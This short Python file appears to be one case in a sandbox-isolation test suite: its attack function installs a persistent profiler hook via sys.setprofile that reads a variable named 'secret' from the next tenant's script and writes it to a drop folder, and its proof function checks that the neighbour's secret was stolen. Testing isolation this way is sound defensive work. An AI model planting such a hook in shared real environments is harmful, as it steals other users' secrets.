"""Leave a profiler that watches the next tenant's script."""

from __future__ import annotations

from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from workloads.attacks.scene import Given, Scene


def attack(given: Given) -> object:
    import sys

    drop, real = given.drop, open

    def watch(frame: object, event: str, argument: object) -> None:
        secret = getattr(frame, "f_locals", {}).get("secret")
        if isinstance(secret, str):
            try:
                with real(f"{drop}/copy", "w") as copy:
                    copy.write(secret)
            except OSError:
                pass

    sys.setprofile(watch)
    return "watching"


def proof(scene: Scene) -> str | None:
    scene.visit()
    return scene.stolen(scene.secret, "a variable of the neighbour's script")
